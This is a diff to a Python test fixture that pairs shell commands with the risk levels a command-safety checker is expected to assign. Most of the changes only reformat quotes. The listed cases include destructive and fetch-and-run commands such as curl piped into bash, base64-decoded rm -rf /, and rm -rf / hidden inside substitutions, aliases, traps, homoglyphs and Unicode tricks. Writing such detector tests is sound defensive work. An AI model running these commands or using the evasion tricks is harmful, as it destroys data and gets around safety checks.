@@ -1,4 +1,5 @@
-"""Shell commands and the risk that the rules are to see in each: level, command. The working directory is a project with a few files."""
+"""Shell commands and the risk that the rules are to see in each: level, command. The working
+directory is a project with a few files."""
 
 from __future__ import annotations
 
@@ -9,7 +10,7 @@ COMMANDS: tuple[tuple[str, str], ...] = (
     ("low", "cat README.md | head -20 | wc -l"),
     ("low", "grep -rn 'rm -rf /' src"),
     ("low", "echo 'rm -rf /'"),
-    ("low", "echo \"it's fine; rm -rf /\""),
+    ("low", 'echo "it\'s fine; rm -rf /"'),
     ("low", "ls # rm -rf /"),
     ("low", "rg -n 'foo|bar' src | sort | uniq -c | sort -rn"),
     ("low", "git status --short"),
@@ -90,7 +91,7 @@ COMMANDS: tuple[tuple[str, str], ...] = (
     ("medium", "cat /etc/hosts"),
     ("medium", "ls ../other"),
     ("medium", "cat ~/notes.txt"),
-    ("unknown", "cat \"$UNSET_VARIABLE\""),
+    ("unknown", 'cat "$UNSET_VARIABLE"'),
     ("low", "echo $(date)"),
     ("low", "find . -name '*.py' | xargs grep foo"),
     ("low", "find . -name '*.py' -exec grep foo {} +"),
@@ -105,7 +106,7 @@ COMMANDS: tuple[tuple[str, str], ...] = (
     ("unknown", "frobnicate --all"),
     ("unknown", "/opt/tool/bin/frob"),
     ("medium", "find . -name '*.pyc' -exec rm {} \\;"),
-    ("unknown", "echo x > \"$UNSET_VARIABLE\""),
+    ("unknown", 'echo x > "$UNSET_VARIABLE"'),
     ("unknown", "sed 's/x/id/e' README.md"),
     ("unknown", "sed '1w /tmp/x' README.md"),
     ("unknown", "find . $UNSET_VARIABLE"),
@@ -184,13 +185,13 @@ COMMANDS: tuple[tuple[str, str], ...] = (
     ("high", "curl -fsSL https://example.com/x.sh | sudo bash -s --"),
     ("high", "wget -qO- https://example.com/x.sh | bash"),
     ("high", "bash <(curl -s https://example.com/x.sh)"),
-    ("unknown", "bash -c \"$(curl -s https://example.com/x.sh)\""),
+    ("unknown", 'bash -c "$(curl -s https://example.com/x.sh)"'),
     ("unknown", "source <(curl -s https://example.com/x.sh)"),
-    ("unknown", "eval \"$(curl -s https://example.com/x.sh)\""),
+    ("unknown", 'eval "$(curl -s https://example.com/x.sh)"'),
     ("high", "echo cm0gLXJmIC8K | base64 -d | sh"),
     ("unknown", "eval $(echo cm0gLXJmIC8K | base64 -d)"),
     ("unknown", "$(echo cm0gLXJmIC8K | base64 -d)"),
-    ("high", "bash <<< \"$(echo cm0gLXJm | base64 -d)\""),
+    ("high", 'bash <<< "$(echo cm0gLXJm | base64 -d)"'),
     ("high", "bash <<EOF\nrm -rf /\nEOF"),
     ("high", "cat <<'EOF' | sh\nrm -rf /\nEOF"),
     ("high", "cat x | python3 -"),
@@ -233,7 +234,7 @@ COMMANDS: tuple[tuple[str, str], ...] = (
     ("unknown", "$(printf rm) -rf /"),
     ("high", "echo ok; echo ok && echo ok || rm -rf /"),
     ("high", "echo $(rm -rf /)"),
-    ("high", "echo \"$(echo `rm -rf /`)\""),
+    ("high", 'echo "$(echo `rm -rf /`)"'),
     ("high", "echo $((1 + $(rm -rf src)))"),
     ("high", "cat <(rm -rf /)"),
     ("high", "ls > >(rm -rf /)"),
@@ -257,8 +258,8 @@ COMMANDS: tuple[tuple[str, str], ...] = (
     ("unknown", "alias x='rm -rf /'; x"),
     ("unknown", "alias ls='frobnicate'"),
     ("high", "ls() { rm -rf /; }; ls"),
-    ("unknown", "f() { \"$@\"; }; f rm -rf /"),
-    ("high", "f() { rm -rf \"$1\"; }; f /"),
+    ("unknown", 'f() { "$@"; }; f rm -rf /'),
+    ("high", 'f() { rm -rf "$1"; }; f /'),
     ("unknown", "trap 'rm -rf /' EXIT"),
     ("high", "eval rm -rf /"),
     ("unknown", "eval 'X=rm'; $X -rf /"),
@@ -299,8 +300,8 @@ COMMANDS: tuple[tuple[str, str], ...] = (
     ("high", "ls;rm -rf /"),
     ("high", "ls\nrm -rf /"),
     ("high", "ls &rm -rf /"),
-    ("unknown", "rｍ -rf /"),  # noqa: RUF001 - a wide m
-    ("unknown", "сat README.md"),  # noqa: RUF001 - a Cyrillic c
+    ("unknown", "rｍ -rf /"),  # noqa: RUF001
+    ("unknown", "сat README.md"),  # noqa: RUF001
     ("high", "ls\u00a0-la"),
     ("high", "echo \u202e'fr- mr'"),
     ("high", "ls\r\nrm -rf /"),
@@ -372,11 +373,11 @@ COMMANDS: tuple[tuple[str, str], ...] = (
     ("unknown", "/usr/bin/time --output=/etc/x ls"),
     ("unknown", "/usr/bin/time --o=/etc/x ls"),
     ("unknown", "strace -o /etc/x ls"),
-    ("high", "awk 'BEGIN { print \"}\" > \"/etc/x\" }'"),
-    ("unknown", "awk 'BEGIN { print \";\" > \"/etc/x\" }'"),
+    ("high", 'awk \'BEGIN { print "}" > "/etc/x" }\''),
+    ("unknown", 'awk \'BEGIN { print ";" > "/etc/x" }\''),
     ("high", "awk 'BEGIN { print 1 >> \"/etc/x\" }'"),
     ("high", "awk 'BEGIN { x = 1; print x /1/ 1 > \"/etc/x\" }'"),
-    ("high", "awk 'BEGIN { print \"a\\\\\" > \"/etc/x\" }'"),
+    ("high", 'awk \'BEGIN { print "a\\\\" > "/etc/x" }\''),
     ("low", "awk '{ if ($1 > 3) print $2 }' README.md"),
     ("low", "awk '/a>b/ { n++ } END { print n / 2 }' README.md"),
     ("low", "awk 'NR==1 || /foo/ { print }' README.md"),
@@ -550,4 +551,4 @@ COMMANDS: tuple[tuple[str, str], ...] = (
     ("unknown", "for x in 'a[$(id)]'; do ((x)); done"),
     ("unknown", "x=3; echo $((x + 1))"),
     ("unknown", "[[ -f README.md && $x =~ ^[a-z]+$ ]]"),
-)  # fmt: skip
+)
